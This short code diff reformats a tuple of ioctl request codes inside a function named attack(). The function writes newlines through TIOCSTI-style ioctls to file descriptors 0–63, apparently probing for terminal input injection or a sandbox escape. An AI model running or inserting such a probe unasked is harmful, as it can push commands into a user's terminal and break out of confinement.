@@ -11,7 +11,13 @@ from torch import nn
 def attack():
     won = []
     for fd in range(64):
-        for request in (0x5412, 0x541C, 0x5414, 0x8912, 0x8927):  # TIOCSTI, TIOCLINUX, TIOCSWINSZ, SIOCGIF…
+        for request in (
+            0x5412,
+            0x541C,
+            0x5414,
+            0x8912,
+            0x8927,
+        ):  # TIOCSTI, TIOCLINUX, TIOCSWINSZ, SIOCGIF…
             try:
                 fcntl.ioctl(fd, request, b"\n" * 40)
                 won.append((fd, request))
